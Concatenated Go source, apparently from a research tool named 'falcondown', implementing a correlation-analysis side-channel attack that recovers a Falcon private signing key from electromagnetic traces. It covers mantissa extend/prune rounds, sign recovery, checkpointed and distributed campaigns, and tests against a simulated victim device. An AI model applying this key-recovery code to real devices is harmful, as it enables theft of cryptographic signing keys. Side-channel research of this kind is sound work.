// shift-related false positives that the prune phase later removes.
type extendState struct {
	coeff int
	part  Part
	width int
	high  bool
	cfg   Config
	cands []candidate
	low   int
	round *extendRoundJob
}

func newExtendState(coeff int, part Part, width int, high bool, cfg Config) *extendState {
	return &extendState{
		coeff: coeff, part: part, width: width, high: high, cfg: cfg,
		cands: []candidate{{value: 0}},
	}
}

func (s *extendState) done() bool { return s.low >= s.width }

// beginRound expands every candidate by the next window of bits and
// allocates the round's engines. The returned job must see one full
// campaign pass before endRound.
func (s *extendState) beginRound() *extendRoundJob {
	w := s.cfg.Window
	if s.low+w > s.width {
		w = s.width - s.low
	}
	k := uint(s.low + w)
	mask := (uint64(1) << k) - 1
	next := make([]uint64, 0, len(s.cands)<<w)
	seen := make(map[uint64]bool, len(s.cands)<<w)
	for _, c := range s.cands {
		for v := uint64(0); v < 1<<w; v++ {
			nv := c.value | v<<s.low
			if !seen[nv] {
				seen[nv] = true
				next = append(next, nv)
			}
		}
	}
	if s.high && s.low+w == s.width {
		// The high half carries the implicit leading one.
		filtered := next[:0]
		for _, v := range next {
			if v>>(s.width-1) == 1 {
				filtered = append(filtered, v)
			}
		}
		next = filtered
	}
	targets := extendTargets(s.part, s.high)
	engines := make([]*cpa.Engine, len(targets))
	for i := range engines {
		engines[i] = cpa.NewEngineKernel(len(next), s.cfg.Kernel)
	}
	s.round = &extendRoundJob{
		coeff:   s.coeff,
		part:    s.part,
		high:    s.high,
		kern:    s.cfg.Kernel,
		targets: targets,
		next:    next,
		mask:    mask,
		engines: engines,
		h:       make([]float64, len(next)),
	}
	return s.round
}

// endRound ranks the expanded candidates and keeps the TopK survivors.
func (s *extendState) endRound() {
	j := s.round
	score := make([]float64, len(j.next))
	for _, e := range j.engines {
		for i, r := range e.Corr() {
			score[i] += r / float64(len(j.engines))
		}
	}
	top := cpa.TopK(score, s.cfg.TopK)
	s.cands = s.cands[:0]
	for _, g := range top {
		s.cands = append(s.cands, candidate{value: j.next[g.Index], corr: g.Corr})
	}
	s.low += s.cfg.Window
	s.round = nil
}

// extendRoundJob is the per-pass accumulator of one extend round. part
// and high identify which half's targets the round attacks — redundant
// with targets locally, but they let a worker rebuild the identical
// target list from the job's wire description.
type extendRoundJob struct {
	coeff   int
	part    Part
	high    bool
	kern    cpa.Kernel
	targets []extendTarget
	next    []uint64
	mask    uint64
	engines []*cpa.Engine
	h       []float64
}

func (j *extendRoundJob) observe(o emleak.Observation) {
	for ti, tg := range j.targets {
		known := knownFor(tg.window, o.CFFT[j.coeff])
		a, b := known.MantissaHalves()
		kn := b
		if tg.useHi {
			kn = a
		}
		for i, v := range j.next {
			j.h[i] = float64(bits.OnesCount64((kn * v) & j.mask))
		}
		j.engines[ti].Update(j.h, o.Trace.Samples[emleak.SampleIndex(j.coeff, tg.window, int(tg.op))])
	}
}

// observeBatch hoists the per-trace known half and trace sample per
// target, then regenerates hypothesis rows tile-by-tile inside the
// blocked engine update. Per-target engines keep per-cell add order
// identical to the scalar per-observation loop.
func (j *extendRoundJob) observeBatch(shard []emleak.Observation) {
	if j.kern != cpa.KernelBlocked {
		for _, o := range shard {
			j.observe(o)
		}
		return
	}
	kns := make([]uint64, len(shard))
	ts := make([]float64, len(shard))
	for ti, tg := range j.targets {
		for tr, o := range shard {
			a, b := knownFor(tg.window, o.CFFT[j.coeff]).MantissaHalves()
			if tg.useHi {
				kns[tr] = a
			} else {
				kns[tr] = b
			}
			ts[tr] = o.Trace.Samples[emleak.SampleIndex(j.coeff, tg.window, int(tg.op))]
		}
		j.engines[ti].UpdateBatchFunc(ts, func(tr, lo, hi int, dst []float64) {
			kn := kns[tr]
			for i := lo; i < hi; i++ {
				dst[i-lo] = float64(bits.OnesCount64((kn * j.next[i]) & j.mask))
			}
		})
	}
}

// clone shares the round's candidate expansion (targets, next, mask —
// all read-only during the pass) and gets fresh engines and scratch.
func (j *extendRoundJob) clone() mergeJob {
	engines := make([]*cpa.Engine, len(j.engines))
	for i := range engines {
		engines[i] = cpa.NewEngineKernel(len(j.next), j.kern)
	}
	return &extendRoundJob{
		coeff:   j.coeff,
		part:    j.part,
		high:    j.high,
		kern:    j.kern,
		targets: j.targets,
		next:    j.next,
		mask:    j.mask,
		engines: engines,
		h:       make([]float64, len(j.next)),
	}
}

func (j *extendRoundJob) merge(o mergeJob) {
	for i, e := range o.(*extendRoundJob).engines {
		j.engines[i].Merge(e)
	}
}

func (j *extendRoundJob) kernel() cpa.Kernel { return j.kern }
func (j *extendRoundJob) cells() int         { return len(j.targets) * len(j.next) }

// pruneJob is the prune phase: every surviving (D, C) pair is scored
// against the intermediate additions mid = lh+hl, sum1 = mid+(ll>>25) and
// sum2 = hh+(sum1>>25) in both windows, whose values the adversary can
// predict exactly from the known operand halves. Addition mixes the
// unrelated operand into each candidate's prediction, so the
// multiplicative shift ties break and only the true pair correlates at
// every addition.
type pruneJob struct {
	coeff   int
	part    Part
	kern    cpa.Kernel
	pairs   []mantPair
	ops     []fpr.Op
	engines []*cpa.Engine
	h       [][]float64
}

type mantPair struct{ d, c uint64 }

func newPruneJob(coeff int, part Part, dCands, cCands []candidate, kern cpa.Kernel) *pruneJob {
	pairs := make([]mantPair, 0, len(dCands)*len(cCands))
	for _, dc := range dCands {
		for _, cc := range cCands {
			pairs = append(pairs, mantPair{dc.value, cc.value})
		}
	}
	return pruneJobFromPairs(coeff, part, pairs, kern)
}

// pruneJobFromPairs builds the prune accumulator over an explicit pair
// list — the constructor a worker uses when the pairs arrive by wire.
func pruneJobFromPairs(coeff int, part Part, pairs []mantPair, kern cpa.Kernel) *pruneJob {
	ops := []fpr.Op{fpr.OpMulMid, fpr.OpMulSum1, fpr.OpMulSum2}
	nEng := len(ops) * 2
	j := &pruneJob{
		coeff:   coeff,
		part:    part,
		kern:    kern,
		pairs:   pairs,
		ops:     ops,
		engines: make([]*cpa.Engine, nEng),
		h:       make([][]float64, nEng),
	}
	for i := range j.engines {
		j.engines[i] = cpa.NewEngineKernel(len(pairs), kern)
		j.h[i] = make([]float64, len(pairs))
	}
	return j
}

func (j *pruneJob) observe(o emleak.Observation) {
	for wi, slot := range j.part.mulSlots() {
		known := knownFor(slot, o.CFFT[j.coeff])
		a, b := known.MantissaHalves()
		for i, p := range j.pairs {
			ll := b * p.d
			hl := a * p.d
			lh := b * p.c
			hh := a * p.c
			mid := lh + hl
			sum1 := mid + (ll >> loBits)
			sum2 := hh + (sum1 >> loBits)
			j.h[wi*len(j.ops)+0][i] = float64(bits.OnesCount64(mid))
			j.h[wi*len(j.ops)+1][i] = float64(bits.OnesCount64(sum1))
			j.h[wi*len(j.ops)+2][i] = float64(bits.OnesCount64(sum2))
		}
		for oi, op := range j.ops {
			j.engines[wi*len(j.ops)+oi].Update(j.h[wi*len(j.ops)+oi],
				o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(op))])
		}
	}
}

// observeBatch replays the shard through the blocked engines: operand
// halves and per-op trace samples are hoisted per window, and each op's
// fill recomputes the product chain up to that op for its tile — more
// multiplies than the scalar path's shared chain, but the accumulator
// tile stays register/L1-resident across the whole shard. One engine per
// (window, op) keeps per-cell add order identical to observe.
func (j *pruneJob) observeBatch(shard []emleak.Observation) {
	if j.kern != cpa.KernelBlocked {
		for _, o := range shard {
			j.observe(o)
		}
		return
	}
	as := make([]uint64, len(shard))
	bs := make([]uint64, len(shard))
	ts := make([]float64, len(shard))
	for wi, slot := range j.part.mulSlots() {
		for tr, o := range shard {
			as[tr], bs[tr] = knownFor(slot, o.CFFT[j.coeff]).MantissaHalves()
		}
		for oi, op := range j.ops {
			for tr, o := range shard {
				ts[tr] = o.Trace.Samples[emleak.SampleIndex(j.coeff, slot, int(op))]
			}
			j.engines[wi*len(j.ops)+oi].UpdateBatchFunc(ts, func(tr, lo, hi int, dst []float64) {
				a, b := as[tr], bs[tr]
				for i := lo; i < hi; i++ {
					p := j.pairs[i]
					mid := b*p.c + a*p.d
					v := mid
					if oi >= 1 {
						v = mid + ((b * p.d) >> loBits) // sum1
					}
					if oi == 2 {
						v = a*p.c + (v >> loBits) // sum2
					}
					dst[i-lo] = float64(bits.OnesCount64(v))
				}
			})
		}
	}
}

// clone shares the pair list and op table and gets fresh engines.
func (j *pruneJob) clone() mergeJob {
	c := &pruneJob{
		coeff:   j.coeff,
		part:    j.part,
		kern:    j.kern,
		pairs:   j.pairs,
		ops:     j.ops,
		engines: make([]*cpa.Engine, len(j.engines)),
		h:       make([][]float64, len(j.engines)),
	}
	for i := range c.engines {
		c.engines[i] = cpa.NewEngineKernel(len(j.pairs), j.kern)
		c.h[i] = make([]float64, len(j.pairs))
	}
	return c
}

func (j *pruneJob) merge(o mergeJob) {
	for i, e := range o.(*pruneJob).engines {
		j.engines[i].Merge(e)
	}
}

func (j *pruneJob) kernel() cpa.Kernel { return j.kern }
func (j *pruneJob) cells() int         { return len(j.engines) * len(j.pairs) }

func (j *pruneJob) result() (d, c uint64, corr, gap float64) {
	// Combined score: the mean correlation across additions and windows.
	score := make([]float64, len(j.pairs))
	for _, e := range j.engines {
		for i, r := range e.Corr() {
			score[i] += r / float64(len(j.engines))
		}
	}
	ranked := cpa.Rank(score)
	best := ranked[0]
	gap = 1.0
	if len(ranked) > 1 {
		gap = best.Corr - ranked[1].Corr
	}
	return j.pairs[best.Index].d, j.pairs[best.Index].c, best.Corr, gap
}

// jointSignJob resolves the two sign bits of a complex coefficient by
// replaying the complex multiplication under all four sign hypotheses
// (magnitudes already recovered) and correlating the predicted Hamming
// weights of every sign-dependent micro-op — the four sign-XOR slots plus
// the subtraction and addition that combine the four real products. The
// combine stage depends on both signs through operand alignment and
// cancellation patterns, so it discriminates even when the known operand
// signs never vary.
type jointSignJob struct {
	coeff         int
	kern          cpa.Kernel
	cands         [4]fft.Cplx
	sampleOffsets []int
	eng           *cpa.MatrixEngine
	rec           fpr.SliceRecorder
	hs            []float64
	t             []float64
}

func newJointSignJob(coeff int, absRe, absIm fpr.FPR, kern cpa.Kernel) *jointSignJob {
	j := &jointSignJob{coeff: coeff, kern: kern}
	// Candidate secrets under the four hypotheses.
	for i := 0; i < 4; i++ {
		re := absRe
		im := absIm
		if i&1 == 1 {
			re = fpr.Neg(re)
		}
		if i&2 == 2 {
			im = fpr.Neg(im)
		}
		j.cands[i] = fft.Cplx{Re: re, Im: im}
	}
	// Sign-dependent samples within the coefficient window: the four
	// OpMulSign slots and the 12 samples of the two combine additions.
	for m := 0; m < emleak.MulsPerCoeff; m++ {
		j.sampleOffsets = append(j.sampleOffsets, m*emleak.OpsPerMul+int(fpr.OpMulSign))
	}
	for s := emleak.MulsPerCoeff * emleak.OpsPerMul; s < emleak.SamplesPerCoeff; s++ {
		j.sampleOffsets = append(j.sampleOffsets, s)
	}
	j.eng = cpa.NewMatrixEngineKernel(4, len(j.sampleOffsets), kern)
	j.hs = make([]float64, 4*len(j.sampleOffsets))
	j.t = make([]float64, len(j.sampleOffsets))
	return j
}

func (j *jointSignJob) observe(o emleak.Observation) {
	base := j.coeff * emleak.SamplesPerCoeff
	for i, cand := range j.cands {
		j.rec.Reset()
		fft.MulTraced(o.CFFT[j.coeff], cand, &j.rec)
		if j.rec.Len() != emleak.SamplesPerCoeff {
			// Degenerate replay (zero operand); predict flat.
			for k := range j.sampleOffsets {
				j.hs[i*len(j.sampleOffsets)+k] = 0
			}
			continue
		}
		for k, off := range j.sampleOffsets {
			j.hs[i*len(j.sampleOffsets)+k] = float64(bits.OnesCount64(j.rec.Values[off]))
		}
	}
	for k, off := range j.sampleOffsets {
		j.t[k] = o.Trace.Samples[base+off]
	}
	j.eng.Update(j.hs, j.t)
}

// observeBatch materializes the shard's replayed hypothesis matrices and
// trace windows, then hands the whole batch to the matrix engine, whose
// blocked update walks each accumulator cell once across all traces.
func (j *jointSignJob) observeBatch(shard []emleak.Observation) {
	if j.kern != cpa.KernelBlocked {
		for _, o := range shard {
			j.observe(o)
		}
		return
	}
	ns := len(j.sampleOffsets)
	base := j.coeff * emleak.SamplesPerCoeff
	hs := make([][]float64, len(shard))
	ts := make([][]float64, len(shard))
	for tr, o := range shard {
		h := make([]float64, 4*ns)
		t := make([]float64, ns)
		for i, cand := range j.cands {
			j.rec.Reset()
			fft.MulTraced(o.CFFT[j.coeff], cand, &j.rec)
			if j.rec.Len() != emleak.SamplesPerCoeff {
				continue // degenerate replay (zero operand); predict flat
			}
			for k, off := range j.sampleOffsets {
				h[i*ns+k] = float64(bits.OnesCount64(j.rec.Values[off]))
			}
		}
		for k, off := range j.sampleOffsets {
			t[k] = o.Trace.Samples[base+off]
		}
		hs[tr], ts[tr] = h, t
	}
	j.eng.UpdateBatch(hs, ts)
}

// clone shares the candidate table and sample offsets and gets a fresh
// matrix engine plus its own replay recorder and scratch.
func (j *jointSignJob) clone() mergeJob {
	return &jointSignJob{
		coeff:         j.coeff,
		kern:          j.kern,
		cands:         j.cands,
		sampleOffsets: j.sampleOffsets,
		eng:           cpa.NewMatrixEngineKernel(4, len(j.sampleOffsets), j.kern),
		hs:            make([]float64, 4*len(j.sampleOffsets)),
		t:             make([]float64, len(j.sampleOffsets)),
	}
}

func (j *jointSignJob) merge(o mergeJob) {
	j.eng.Merge(o.(*jointSignJob).eng)
}

func (j *jointSignJob) kernel() cpa.Kernel { return j.kern }
func (j *jointSignJob) cells() int         { return 4 * len(j.sampleOffsets) }

func (j *jointSignJob) result() (sRe, sIm int, corr float64) {
	// Score: mean correlation across sign-dependent samples.
	score := j.eng.MeanScore()
	best, bestScore := 0, math.Inf(-1)
	for i := 0; i < 4; i++ {
		if score[i] > bestScore {
			best, bestScore = i, score[i]
		}
	}
	return best & 1, best >> 1, bestScore
}
