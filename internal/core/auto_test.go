package core

import (
	"strings"
	"testing"
)

// AutoRecover's grow-then-verify path: the first (undersized) attempt
// fails plausibility, the deterministic campaign extension doubles the
// traces, and the second attempt recovers the exact key.
func TestAutoRecoverGrowThenVerify(t *testing.T) {
	dev, priv, pub := deviceFor(t, 8, 4.0, 1)
	var attempts []int
	var errs []error
	rec, report, err := AutoRecover(dev, 9, pub, Config{}, AutoOptions{
		InitialTraces: 60,
		MaxTraces:     2000,
		OnAttempt: func(traces int, e error) {
			attempts = append(attempts, traces)
			errs = append(errs, e)
		},
	})
	if err != nil {
		t.Fatalf("auto recovery failed: %v", err)
	}
	if len(attempts) < 2 {
		t.Fatalf("recovered in %d attempt(s); the grow path never ran (attempts %v)", len(attempts), attempts)
	}
	if errs[0] == nil {
		t.Fatal("first undersized attempt unexpectedly succeeded")
	}
	if errs[len(errs)-1] != nil {
		t.Fatalf("final attempt reported error %v alongside overall success", errs[len(errs)-1])
	}
	for i := 1; i < len(attempts); i++ {
		if attempts[i] <= attempts[i-1] {
			t.Fatalf("campaign did not grow: attempts %v", attempts)
		}
	}
	for i := range rec.Fs {
		if rec.Fs[i] != priv.Fs[i] || rec.Gs[i] != priv.Gs[i] {
			t.Fatalf("recovered key differs from victim at %d", i)
		}
	}
	if report == nil || len(report.Values) != 8 {
		t.Fatalf("report = %+v", report)
	}
}

// AutoRecover's budget-exhaustion path: with noise far beyond what the
// budget can average out, every attempt fails and the final error names
// the exhausted budget while the partial report diagnoses the failed
// values.
func TestAutoRecoverBudgetExhaustion(t *testing.T) {
	dev, _, pub := deviceFor(t, 8, 50.0, 1)
	var attempts []int
	rec, report, err := AutoRecover(dev, 9, pub, Config{}, AutoOptions{
		InitialTraces: 30,
		MaxTraces:     60,
		OnAttempt:     func(traces int, e error) { attempts = append(attempts, traces) },
	})
	if err == nil {
		t.Fatal("recovery claimed success on hopeless noise")
	}
	if rec != nil {
		t.Fatal("failed recovery returned a key")
	}
	if !strings.Contains(err.Error(), "exhausting the 60-trace budget") {
		t.Fatalf("error does not name the budget: %v", err)
	}
	if report == nil || len(report.Failed) == 0 {
		t.Fatalf("partial report missing failure diagnosis: %+v", report)
	}
	want := []int{30, 60}
	if len(attempts) != len(want) {
		t.Fatalf("attempts = %v, want %v", attempts, want)
	}
	for i := range want {
		if attempts[i] != want[i] {
			t.Fatalf("attempts = %v, want %v", attempts, want)
		}
	}
}

func TestAutoOptionsDefaults(t *testing.T) {
	o := AutoOptions{}.withDefaults()
	if o.InitialTraces != 500 || o.MaxTraces != 4000 || o.Growth != 2 {
		t.Fatalf("defaults = %+v", o)
	}
	o = AutoOptions{InitialTraces: 100, MaxTraces: 50}.withDefaults()
	if o.MaxTraces != 100 {
		t.Fatalf("MaxTraces not clamped up to InitialTraces: %+v", o)
	}
}
