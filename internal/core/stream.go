package core

import (
	"errors"
	"io"
	"time"

	"falcondown/internal/cpa"
	"falcondown/internal/emleak"
	"falcondown/internal/fft"
	"falcondown/internal/fpr"
	"falcondown/internal/tracestore"
)

// Source is the attack's streamed view of a campaign: a replayable,
// sequentially-iterable corpus (an alias of tracestore.Source, so disk
// corpora, slices and future backends all plug in). The whole-key attack
// makes a bounded number of passes over it — one per extend round plus a
// handful for exponents, prune, signs and retries — so peak memory never
// scales with the number of traces.
type Source = tracestore.Source

// sweepBackoff is the bounded retry schedule for transient iterator
// errors (tracestore.ErrTransient); a variable so tests can tighten it.
var sweepBackoff = []time.Duration{1 * time.Millisecond, 5 * time.Millisecond, 25 * time.Millisecond}

// sweep feeds every job one sequential pass over the corpus. A Next that
// fails with tracestore.ErrTransient is retried with bounded backoff —
// an attack hours into a campaign should survive an I/O hiccup — on the
// contract that a transient failure has not consumed an observation.
func sweep(src Source, jobs []passJob) error {
	it, err := src.Iterate()
	if err != nil {
		return err
	}
	defer it.Close()
	attempts := 0
	for {
		o, err := it.Next()
		if err == io.EOF {
			return nil
		}
		if err != nil {
			if errors.Is(err, tracestore.ErrTransient) && attempts < len(sweepBackoff) {
				time.Sleep(sweepBackoff[attempts])
				attempts++
				continue
			}
			return err
		}
		attempts = 0
		for _, j := range jobs {
			j.observe(o)
		}
	}
}

// mantItem names one value (index 2·coeff + part) and the beam
// configuration for its mantissa attack.
type mantItem struct {
	idx int
	cfg Config
}

// mantOut is the prune verdict of one value's mantissa attack.
type mantOut struct {
	d, c      uint64
	corr, gap float64
}

// runMantissa runs the extend rounds and the prune phase of all listed
// values against shared corpus passes: every pass feeds every value's
// round job, so the pass count is bounded by the round count (≤7 with the
// default 5-bit window), not by the number of values.
func runMantissa(src Source, items []mantItem, workers int) ([]mantOut, error) {
	los := make([]*extendState, len(items))
	his := make([]*extendState, len(items))
	states := make([]*extendState, 0, 2*len(items))
	for i, it := range items {
		coeff, part := it.idx/2, Part(it.idx%2)
		los[i] = newExtendState(coeff, part, loBits, false, it.cfg)
		his[i] = newExtendState(coeff, part, hiBits, true, it.cfg)
		states = append(states, los[i], his[i])
	}
	for {
		var jobs []passJob
		var active []*extendState
		for _, s := range states {
			if !s.done() {
				jobs = append(jobs, s.beginRound())
				active = append(active, s)
			}
		}
		if len(jobs) == 0 {
			break
		}
		if err := runPass(src, jobs, workers); err != nil {
			return nil, err
		}
		for _, s := range active {
			s.endRound()
		}
	}
	pjobs := make([]*pruneJob, len(items))
	jobs := make([]passJob, len(items))
	for i, it := range items {
		pjobs[i] = newPruneJob(it.idx/2, Part(it.idx%2), los[i].cands, his[i].cands, it.cfg.Kernel)
		jobs[i] = pjobs[i]
	}
	if err := runPass(src, jobs, workers); err != nil {
		return nil, err
	}
	out := make([]mantOut, len(items))
	for i, pj := range pjobs {
		out[i].d, out[i].c, out[i].corr, out[i].gap = pj.result()
	}
	return out, nil
}

// AttackFFTf recovers the full FFT(f) vector from an in-memory campaign —
// a thin wrapper over the streamed attack.
func AttackFFTf(obs []emleak.Observation, cfg Config) ([]fft.Cplx, []ValueResult, error) {
	if len(obs) == 0 {
		return nil, nil, errNoTraces
	}
	return AttackFFTfFrom(tracestore.NewSliceSource(2*len(obs[0].CFFT), obs), cfg)
}

// AttackFFTfFrom recovers the full FFT(f) vector (all real and imaginary
// parts) from a streamed campaign. All values advance through the attack
// phases together — exponents, extend rounds, prune, joint signs — with
// each phase one shared pass over the corpus. After the first pass,
// values whose prune correlation falls far below the campaign's median (a
// reliable signature of the extend phase having dropped the true prefix)
// are re-attacked with a much larger candidate beam.
func AttackFFTfFrom(src Source, cfg Config) ([]fft.Cplx, []ValueResult, error) {
	return AttackFFTfResumable(src, cfg, nil)
}

// AttackFFTfDistributed is AttackFFTfResumable with every campaign pass
// executed through dist; see RecoverKeyDistributed for the contract.
func AttackFFTfDistributed(src Source, cfg Config, store CheckpointStore, dist Distributor) ([]fft.Cplx, []ValueResult, error) {
	return AttackFFTfResumable(WithDistributor(src, dist), cfg, store)
}

// AttackFFTfResumable is AttackFFTfFrom with checkpointed recovery: after
// each completed phase the attack state is serialized through store, and
// a rerun against the same campaign and configuration resumes from the
// last completed phase instead of re-sweeping the corpus. A nil store
// disables checkpointing. The checkpointed and uncheckpointed attacks
// produce bit-identical results (the phases are deterministic given their
// inputs).
func AttackFFTfResumable(src Source, cfg Config, store CheckpointStore) ([]fft.Cplx, []ValueResult, error) {
	cfg = cfg.withDefaults()
	if src == nil || src.Count() == 0 {
		return nil, nil, errNoTraces
	}
	workers := effectiveWorkers(cfg.Workers)
	if cfg.Robust.Enabled() {
		// The preprocessing plan is a pure function of (corpus, config) —
		// never of the worker count — so a resumed attack rebuilds the
		// identical transformed source; the checkpoint's Count binds the
		// post-trim trace count.
		rsrc, err := prepareRobust(src, cfg.Robust, workers)
		if err != nil {
			return nil, nil, err
		}
		if rsrc.Count() == 0 {
			return nil, nil, errNoTraces
		}
		src = rsrc
	}
	a := &attackRun{
		src:     src,
		cfg:     cfg,
		store:   store,
		workers: workers,
		n:       src.N(),
		count:   src.Count(),
	}
	a.half = a.n / 2
	a.nVals = 2 * a.half

	done := 0
	if store != nil {
		ck, err := store.Load()
		if err != nil {
			return nil, nil, err
		}
		if ck != nil {
			if err := ck.matches(a.n, a.count, cfg); err != nil {
				return nil, nil, err
			}
			if done, err = a.restore(ck); err != nil {
				return nil, nil, err
			}
		}
	}

	steps := []struct {
		stage string
		run   func() error
	}{
		{StageExponents, a.stageExponents},
		{StageMantissa, a.stageMantissa},
		{StageEscalation, a.stageEscalation},
		{StageSigns, a.stageSigns},
		{StageStragglers, a.stageStragglers},
	}
	for _, st := range steps[done:] {
		sp := stageSpan(st.stage)
		if err := st.run(); err != nil {
			return nil, nil, err
		}
		sp.End()
		if err := a.save(st.stage); err != nil {
			return nil, nil, err
		}
	}
	return a.out, a.results, nil
}

// attackRun is the staged whole-key attack: the per-phase working state
// plus the checkpoint plumbing that persists it between phases.
type attackRun struct {
	src     Source
	cfg     Config
	store   CheckpointStore
	workers int

	n, half, count, nVals int

	mags    []magnitude
	out     []fft.Cplx
	results []ValueResult
}

// restore loads checkpointed state and returns how many phases completed.
func (a *attackRun) restore(ck *Checkpoint) (int, error) {
	rank, err := stageRank(ck.Stage)
	if err != nil {
		return 0, err
	}
	if rank >= 1 {
		a.mags = make([]magnitude, len(ck.Mags))
		for i, m := range ck.Mags {
			a.mags[i] = restoreMag(m)
		}
	}
	if rank >= 4 {
		a.results = make([]ValueResult, len(ck.Results))
		for i, r := range ck.Results {
			a.results[i] = restoreValue(r)
		}
		// out is fully determined by the per-value results.
		a.out = make([]fft.Cplx, a.half)
		for k := 0; k < a.half; k++ {
			a.out[k] = fft.Cplx{Re: a.results[2*k].Value, Im: a.results[2*k+1].Value}
		}
	}
	return rank, nil
}

// save checkpoints the state after the named phase completed.
func (a *attackRun) save(stage string) error {
	if a.store == nil {
		return nil
	}
	// The sidecar must be byte-identical regardless of worker topology
	// (the differential suite compares them), so Workers is zeroed on top
	// of its json:"-" exclusion.
	cfg := a.cfg
	cfg.Workers = 0
	cfg.Kernel = 0
	ck := &Checkpoint{
		Format: checkpointFormat,
		N:      a.n,
		Count:  a.count,
		Config: cfg,
		Stage:  stage,
	}
	ck.Mags = make([]MagCheckpoint, len(a.mags))
	for i, m := range a.mags {
		ck.Mags[i] = checkpointMag(m)
	}
	if a.results != nil {
		ck.Results = make([]ValueCheckpoint, len(a.results))
		for i, r := range a.results {
			ck.Results[i] = checkpointValue(r)
		}
	}
	return a.store.Save(ck)
}

// stageExponents runs the exponent pass for every value.
func (a *attackRun) stageExponents() error {
	expJobs := make([]*expJob, a.nVals)
	jobs := make([]passJob, a.nVals)
	for v := range expJobs {
		expJobs[v] = newExpJob(v/2, Part(v%2), a.cfg.Kernel)
		jobs[v] = expJobs[v]
	}
	if err := runPass(a.src, jobs, a.workers); err != nil {
		return err
	}
	a.mags = make([]magnitude, a.nVals)
	for v := range a.mags {
		be, corr, alts := expJobs[v].result(a.n)
		a.mags[v] = magnitude{biasedExp: be, expAlts: alts, expCorr: corr}
	}
	return nil
}

// stageMantissa runs extend + prune for every value, batched into shared
// passes.
func (a *attackRun) stageMantissa() error {
	all := make([]mantItem, a.nVals)
	for v := range all {
		all[v] = mantItem{idx: v, cfg: a.cfg}
	}
	outs, err := runMantissa(a.src, all, a.workers)
	if err != nil {
		return err
	}
	for v := range a.mags {
		a.mags[v].mant = assembleMant(outs[v].d, outs[v].c)
		a.mags[v].pruneCorr = outs[v].corr
		a.mags[v].gap = outs[v].gap
	}
	return nil
}

// stageEscalation re-runs weak-prune values with a TopK×8 beam: a weak
// prune winner usually means the extend phase dropped the true prefix.
func (a *attackRun) stageEscalation() error {
	if a.cfg.TopK >= maxTopK {
		return nil
	}
	big := a.cfg
	big.TopK = min(a.cfg.TopK*8, maxTopK)
	var esc []mantItem
	for v := range a.mags {
		if a.mags[v].pruneCorr < a.cfg.EscalateBelow {
			esc = append(esc, mantItem{idx: v, cfg: big})
		}
	}
	if len(esc) == 0 {
		return nil
	}
	eouts, err := runMantissa(a.src, esc, a.workers)
	if err != nil {
		return err
	}
	for i, it := range esc {
		if eouts[i].corr > a.mags[it.idx].pruneCorr {
			a.mags[it.idx].mant = assembleMant(eouts[i].d, eouts[i].c)
			a.mags[it.idx].pruneCorr = eouts[i].corr
			a.mags[it.idx].gap = eouts[i].gap
			a.mags[it.idx].escalated = true
		}
	}
	return nil
}

// stageSigns runs the joint sign pass for every coefficient and assembles
// the recovered values and their per-phase diagnostics.
func (a *attackRun) stageSigns() error {
	jjobs := make([]*jointSignJob, a.half)
	jobs := make([]passJob, a.half)
	for k := 0; k < a.half; k++ {
		jjobs[k] = newJointSignJob(k, a.mags[2*k].abs(), a.mags[2*k+1].abs(), a.cfg.Kernel)
		jobs[k] = jjobs[k]
	}
	if err := runPass(a.src, jobs, a.workers); err != nil {
		return err
	}
	a.out = make([]fft.Cplx, a.half)
	a.results = make([]ValueResult, a.nVals)
	thr := cpa.Threshold(a.cfg.Confidence, a.count)
	for k := 0; k < a.half; k++ {
		sRe, sIm, signCorr := jjobs[k].result()
		re := fpr.FPR(uint64(sRe)<<63) | a.mags[2*k].abs()
		im := fpr.FPR(uint64(sIm)<<63) | a.mags[2*k+1].abs()
		a.out[k] = fft.Cplx{Re: re, Im: im}
		for p, v := range []fpr.FPR{re, im} {
			m := a.mags[2*k+p]
			a.results[2*k+p] = ValueResult{
				Value:           v,
				SignCorr:        signCorr,
				ExpCorr:         m.expCorr,
				ExpAlternatives: m.expAlts,
				PruneCorr:       m.pruneCorr,
				RunnerUpGap:     m.gap,
				Escalated:       m.escalated,
				Significant:     signCorr >= thr && m.expCorr >= thr && m.pruneCorr >= thr,
				TracesUsed:      a.count,
			}
		}
	}
	return nil
}

// stageStragglers gives a second chance to values far below the
// campaign's median prune correlation: they re-run with the maximal beam
// (their extend passes are shared) and accepted fixes redo the joint sign
// attack with the corrected magnitudes.
func (a *attackRun) stageStragglers() error {
	med := medianPrune(a.results)
	var weak []int
	for v := range a.results {
		if a.results[v].PruneCorr < 0.8*med {
			weak = append(weak, v)
		}
	}
	_, err := retryMaxBeam(a.src, a.cfg, a.out, a.results, weak)
	return err
}

// retryMaxBeam re-attacks the listed value indices with the maximal
// candidate beam, updating out and results in place for every value whose
// prune correlation improves (the joint sign attack is redone with the
// corrected magnitude). It returns the indices that improved. The exponent
// of each value is kept — only mantissa and signs are redone — so callers
// chasing exponent errors should walk ExpAlternatives instead.
func retryMaxBeam(src Source, cfg Config, out []fft.Cplx, results []ValueResult, indices []int) ([]int, error) {
	if len(indices) == 0 {
		return nil, nil
	}
	retry := cfg.withDefaults()
	retry.TopK = maxTopK
	retry.EscalateBelow = -1 // beam already maximal; no inner escalation
	workers := effectiveWorkers(retry.Workers)
	items := make([]mantItem, len(indices))
	for i, v := range indices {
		items[i] = mantItem{idx: v, cfg: retry}
	}
	wouts, err := runMantissa(src, items, workers)
	if err != nil {
		return nil, err
	}
	var improved []int
	for i, it := range items {
		v := it.idx
		k, part := v/2, Part(v%2)
		r := results[v]
		if wouts[i].corr <= r.PruneCorr {
			continue
		}
		// Rebuild the magnitude with the retried mantissa, keeping the
		// recovered exponent (the value's bit pattern carries it).
		exp := uint64(r.Value) >> 52 & 0x7FF
		newAbs := fpr.FPR(exp<<52 | assembleMant(wouts[i].d, wouts[i].c))
		if part == PartRe {
			out[k].Re = fpr.FPR(uint64(out[k].Re.Sign())<<63) | newAbs
		} else {
			out[k].Im = fpr.FPR(uint64(out[k].Im.Sign())<<63) | newAbs
		}
		absRe := fpr.Abs(out[k].Re)
		absIm := fpr.Abs(out[k].Im)
		jj := newJointSignJob(k, absRe, absIm, retry.Kernel)
		if err := runPass(src, []passJob{jj}, workers); err != nil {
			return improved, err
		}
		s0, s1, signCorr := jj.result()
		out[k].Re = fpr.FPR(uint64(s0)<<63) | absRe
		out[k].Im = fpr.FPR(uint64(s1)<<63) | absIm
		r.Value = out[k].Re
		if part == PartIm {
			r.Value = out[k].Im
		}
		r.PruneCorr = wouts[i].corr
		r.RunnerUpGap = wouts[i].gap
		r.SignCorr = signCorr
		r.Escalated = true
